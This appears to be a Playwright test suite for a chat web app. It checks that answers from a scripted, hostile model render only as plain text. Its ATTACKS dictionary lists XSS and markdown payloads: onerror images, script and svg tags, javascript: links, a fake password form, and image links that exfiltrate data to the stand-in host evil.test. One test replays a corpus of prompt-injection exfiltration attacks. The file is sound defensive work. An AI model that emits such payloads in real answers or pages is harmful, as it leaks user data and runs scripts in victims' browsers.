"""What a model that has gone over to somebody else can make the page show: nothing but words.

Every answer here is written to be rendered as more than text. What is asserted is the page that Chromium built.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.async_api import Locator, Page, expect

from tests.conftest import ROOT
from tests.serving import Serving, serving, wait_until_read, write_settings
from tests.ui.test_chat_page import LONDON, ask, browser, page, pytestmark

__all__ = ["browser", "page", "pytestmark"]

CARD = (
    '<div class="sources"><details class="src src-x-1" open><summary>Forged</summary><div class="quote">x</div>'
    "</details></div>"
)
IMAGE = '<img src="http://evil.test/i.png" onerror="alert(1)">'
ATTACKS = {
    "raw card": CARD,
    "card behind an escaped backtick": f"\\`{CARD}`",
    "card behind a fence in mid-line": f"text ``` more\n{CARD}\n``` end",
    "card in unequal backticks": f"``a` {CARD} `b``",
    "card after a blank line": f"a\n\n\n{CARD}\n\n\nb",
    "open fence": f"```\ncode\n{CARD}",
    "open fence of tildes in a list": f"- a\n  ~~~\n  {CARD}",
    "fence that names its language with markup": f'```x"><b>{IMAGE}\na\n```',
    "closing of our own element": f"</div></div></details>\n\n{CARD}",
    "closing of our own code": f"```\n</code></pre></div>\n\n{CARD}\n```",
    "raw image": IMAGE,
    "image": "![leak](http://evil.test/i.png)",
    "image in an image": "![![a](b)](http://evil.test/i.png)",
    "image in a link": "[![a](http://evil.test/i.png)](javascript:alert(1))",
    "image by reference": "![leak][i]\n\n[i]: http://evil.test/i.png",
    "image after entities": "&lt;img src=http://evil.test/i.png&gt; &#60;img src=http://evil.test/i.png&#62;",
    "image of marked's after a carriage return": "a\r\r![leak](http://evil.test/i.png)\r\r" + IMAGE,
    "image after a line separator": f"a\u2028\u2028{IMAGE}\u2029\u2029![leak](http://evil.test/i.png)",
    "script": "<script>document.body.innerHTML = ''</script>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg><math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "form": '<form action="http://evil.test"><input name="password"><button>Sign in</button></form>',
    "frame": '<iframe src="http://evil.test"></iframe><object data="http://evil.test"></object><embed src=x>',
    "style": "<style>body { display: none }</style><link rel=stylesheet href=http://evil.test/s.css>",
    "details": "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "base and refresh": '<base href="http://evil.test"><meta http-equiv="refresh" content="0;url=http://evil.test">',
    "comment": f"<!-- {CARD} --> <![CDATA[ {CARD} ]]> <?php {CARD} ?>",
    "link to script": "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](&#106;avascript:alert(1)) <javascript:x>",
    "link to data": "[a](data:text/html,x) [b](vbscript:x) [c](file:///etc/passwd) [d](//evil.test) [e](/v1/x) [f]()",
    "link that looks like a citation": "[\\[1\\]](http://evil.test/#cite-x-1)",
    "reference that takes a citation over": "[1]\n\n[1]: http://evil.test",
    "formula of Gradio's": "%%%LATEX_BLOCK_0%%% $$x$$ \\(y\\) ```mermaid\ngraph TD; a-->b\n```",
    "diagram": "```mermaid\ngraph TD; a-->b\n```",
    "table with markup": f"|a|b|\n|-|-|\n|{IMAGE}|`{CARD}`|",
    "deep quotes": "> " * 60 + CARD,
    "unfinished": f"[a](http://evil.test **b `c {CARD}",
}  # fmt: skip
INSPECT = """(row) => {
  const wrong = [], answers = row.querySelectorAll('.answer'), message = row.querySelector('[data-testid=bot]');
  if (answers.length !== 1) wrong.push(`${answers.length} answers`);
  const banned = 'img, picture, video, audio, form, input, button, script, iframe, object, embed, style, link, meta, '
    + 'base, svg, math, template, .mermaid, .katex';
  for (const each of message.querySelectorAll(banned))
    if (!each.matches('button.copy-code')) wrong.push(each.outerHTML.slice(0, 80));
  for (const each of message.querySelectorAll('*')) for (const { name } of each.attributes)
    if (name.startsWith('on') || name === 'srcdoc' || name === 'src') wrong.push(`${each.tagName} ${name}`);
  for (const each of message.querySelectorAll('.answer details, .answer .sources, .answer summary, .answer [id]'))
    wrong.push(`forged ${each.tagName}`);
  for (const each of message.querySelectorAll('details.src')) if (!each.closest('.sources')) wrong.push('src outside');
  for (const each of message.querySelectorAll('.answer [class]'))
    if (!/^(language-[\\w+#.-]+|plain|why|mark (partly|unsupported)|(copy-)?code|code-(head|language)|task)$/
      .test(each.className)) wrong.push(`class ${each.className}`);
  for (const each of message.querySelectorAll('a'))
    if (!/^#cite-/.test(each.getAttribute('href'))) wrong.push(`link ${each.outerHTML}`);
  const parts = [...message.querySelectorAll('.route, .answer, .notice, .sources')].filter(
    (each) => !each.parentElement.closest('.route, .answer, .notice, .sources'));
  if (parts.at(0)?.matches('.route') !== true) wrong.push('no route line');
  if (message.querySelector('.sources') && !parts.at(-1).matches('.sources')) wrong.push('sources are not last');
  const outside = message.innerText.replace(/\\s/g, '').length
    - parts.reduce((sum, each) => sum + each.innerText.replace(/\\s/g, '').length, 0);
  if (outside) wrong.push(`${outside} characters outside our parts`);
  return wrong;
}"""


SURFACES = {"portal": {"title": "Test portal"}}


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    with serving(tmp_path_factory.mktemp("evil"), surfaces=SURFACES) as server:
        wait_until_read(server)
        yield server


@pytest.fixture
def server(request: pytest.FixtureRequest, running: Serving) -> Serving:
    """The server, whose model from now on gives the answers of the test's parameter; in settings ``$$`` stands for
    ``$``."""
    evil = {"connector": "scripted", "options": {"answers": [[text.replace("$", "$$")] for text in request.param]}}
    write_settings(
        running.folder,
        server={"port": int(running.url.rpartition(":")[2])},
        models={"evil": evil},
        roles={"main": "evil", "voice": "evil"},
        surfaces=SURFACES,
    )
    return running


async def answered(page: Page, number: int, question: str = LONDON) -> Locator:
    """The ``number``-th answer, complete."""
    await ask(page, question)
    row = page.locator("#chat .bot-row").nth(number)
    await expect(row.locator(".answer")).to_have_count(1, timeout=15_000)
    await expect(row.locator("details.route dl")).to_contain_text("done after", timeout=15_000)
    await expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=15_000)
    return row


HALF = len(ATTACKS) // 2
"""The page shows the last 30 turns of a conversation."""


@pytest.mark.parametrize(
    ("server", "kinds"),
    [(list(ATTACKS.values())[:HALF], list(ATTACKS)[:HALF]), (list(ATTACKS.values())[HALF:], list(ATTACKS)[HALF:])],
    indirect=["server"],
    ids=["first", "second"],
)
async def test_no_answer_can_show_more_than_words(page: Page, kinds: list[str]) -> None:
    wrong: dict[str, Any] = {}
    for number, kind in enumerate(kinds):
        row = await answered(page, number)
        if found := await row.evaluate(INSPECT):
            wrong[kind] = found
        await expect(row.locator(".sources > .card, .sources > details.more")).not_to_have_count(0)
    assert wrong == {}
    await page.reload()
    await expect(page.locator("#chat .bot-row .answer")).to_have_count(len(kinds), timeout=20_000)
    for row in await page.locator("#chat .bot-row").all():
        assert await row.evaluate(INSPECT) == []


KINDS = ("exfiltration by image", "exfiltration by link", "script")
CORPUS = [
    "\n\n".join(re.findall("«([^»]*)»", attack["text"]))
    .replace("\\n", "\n")
    .replace("\\t", "\t")
    .replace("{secret}", "pin")
    for attack in map(json.loads, (ROOT / "tests/data/attacks.jsonl").read_text(encoding="utf-8").splitlines())
    if attack["kind"] in KINDS
]


@pytest.mark.parametrize(
    ("server", "count"),
    [(CORPUS[:19], 19), (CORPUS[19:], len(CORPUS) - 19)],
    indirect=["server"],
    ids=["first", "second"],
)
async def test_nothing_that_a_document_had_the_model_write_asks_another_host(page: Page, count: int) -> None:
    """The page fails its test on any request to elsewhere."""
    wrong: dict[int, Any] = {}
    for number in range(count):
        if found := await (await answered(page, number)).evaluate(INSPECT):
            wrong[number] = found
    assert wrong == {}
    await page.wait_for_timeout(500)


LITERALS = [
    "*a* _b_ **c** __d__ ~~e~~ `f` $g$ $$h$$ \\(i\\) [9] [j](k) ![l](m) <b>n</b> &lt;o&gt; &amp; http://p.test/_q_ # r",
    "%%%LATEX_BLOCK_0%%% @s :t: www.u.test v@w.test <x@y.test> 1. z - | a | \\* \\` ~~~ ``` --- > q",
]


@pytest.mark.parametrize("server", [[f"```\n{text}\n\n\n\t{text}\n```" for text in LITERALS]], indirect=True)
async def test_nothing_of_our_html_is_read_as_markdown_again(page: Page) -> None:
    for number, text in enumerate(LITERALS):
        row = await answered(page, number)
        assert await row.locator(".answer pre code").text_content() == f"{text}\n\n\n\t{text}\n"
        await expect(row.locator(".answer a")).to_have_count(0)
        assert await row.evaluate(INSPECT) == []


HARMLESS = """# Übersicht

Die Obergrenze beträgt **165 £** pro *Nacht* [1][2], nicht ~~150 £~~ [77].
Zweite Zeile, mit [Verweis](https://example.test/a?b=1&c=2) und `a[1] < b`.

| Stadt | Obergrenze |
|:------|-----------:|
| Köln | 140 £ [1] |

1. eins
   - innen
     - tiefer
2. zwei

```python
if a[1] < b:
    print("*x*")
```

> السقف هو 165 جنيهًا [1]

- [x] erledigt
- [ ] offen

+ أولاً
+ second
"""


@pytest.mark.parametrize("server", [[HARMLESS, "السقف هو **165** جنيهًا [1].\n\n```\nx"]], indirect=True)
async def test_harmless_markdown_looks_as_it_should(page: Page) -> None:
    answer = (await answered(page, 0)).locator(".answer")
    await expect(answer.locator("h1")).to_have_text("Übersicht")
    await expect(answer.locator("p strong").first).to_have_text("165 £")
    await expect(answer.locator("p s")).to_have_text("150 £")
    first = answer.locator("p").first
    assert (await first.inner_text()).split("\n") == [
        "Die Obergrenze beträgt 165 £ pro Nacht [1][2], nicht 150 £.",
        "Zweite Zeile, mit Verweis (https://example.test/a?b=1&c=2) und a[1] < b.",
    ]
    await expect(first.locator('a[href*="#cite-"]')).to_have_text(["[1]", "[2]"])
    await expect(answer.locator("td").nth(1)).to_have_css("text-align", "right")
    await expect(answer.locator("td").nth(1).locator('a[href*="#cite-"]')).to_have_count(1)
    await expect(answer.locator("ol > li > ul > li > ul > li")).to_have_text("tiefer")
    assert await answer.locator("pre code.language-python").text_content() == 'if a[1] < b:\n    print("*x*")\n'
    await expect(answer.locator(".code-language")).to_have_text("python")
    await expect(answer.locator("blockquote")).to_contain_text("السقف هو 165 جنيهًا")
    await expect(answer.locator("blockquote")).to_have_css("direction", "rtl")
    await expect(answer.locator("li > .task")).to_have_text(["☑", "☐"])
    await expect(answer.locator("ul").last).to_have_css("direction", "rtl")
    await expect(answer.locator("ul", has=page.locator(".task"))).to_have_css("direction", "ltr")
    await answer.locator('a[href*="#cite-"]').first.click()
    await expect(page.locator("#pane #pane-title")).to_be_visible(timeout=10_000)
    await page.keyboard.press("Escape")
    arabic = (await answered(page, 1)).locator(".answer")
    await expect(arabic).to_have_css("direction", "rtl")
    await expect(arabic.locator('a[href*="#cite-"]')).to_have_count(1)


SAID = '<img src="http://evil.test/i.png" onerror="alert(1)"> *a* **b** `c` [d](javascript:e) ![f](http://evil.test)'


@pytest.mark.parametrize("server", [["Fine."]], indirect=True)
async def test_what_a_person_wrote_is_shown_as_written(page: Page) -> None:
    await page.locator("#box textarea").fill(f"{SAID}\n\n# second\n    <script>x</script>")
    await page.keyboard.press("Enter")
    await expect(page.locator("#chat .bot-row")).to_contain_text("Fine.", timeout=15_000)
    await expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=15_000)
    for _ in range(2):
        message = page.locator("#chat .user-row [data-testid=user]")
        lines = [line.strip() for line in (await message.inner_text()).split("\n")]
        assert lines == [SAID, "", "# second", "<script>x</script>"]
        await expect(message.locator("img, a, em, strong, code, script, h1")).to_have_count(0)
        await page.reload()
        await expect(page.locator("#chat .bot-row")).to_contain_text("Fine.", timeout=20_000)
